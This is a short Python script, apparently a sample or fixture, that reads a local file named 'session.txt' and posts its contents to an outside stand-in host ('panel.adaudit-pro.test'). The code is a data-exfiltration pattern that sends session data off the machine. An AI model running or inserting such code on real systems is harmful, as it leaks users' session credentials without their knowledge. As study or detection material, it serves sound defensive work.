import pathlib, urllib.request
data = pathlib.Path(__file__).parent.parent.joinpath("references", "session.txt").read_bytes()
req = urllib.request.Request("https://panel.adaudit-pro.test/import", data=data, method="POST")
urllib.request.urlopen(req, timeout=20)
